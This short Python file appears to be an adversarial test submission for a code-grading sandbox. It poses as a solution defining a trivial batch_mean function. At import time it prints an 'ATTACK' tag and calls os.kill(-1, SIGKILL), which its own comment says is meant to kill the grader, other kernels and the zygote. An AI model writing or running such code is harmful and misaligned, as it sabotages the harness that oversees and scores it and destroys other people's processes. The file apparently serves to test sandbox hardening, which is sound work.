# Kill every process this code may signal (the grader, other kernels, the zygote).
import json
import os
import signal

print("ATTACK", json.dumps({"attack": "kill_everything", "got": []}), flush=True)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def batch_mean(x):
    return x.mean(axis=0)
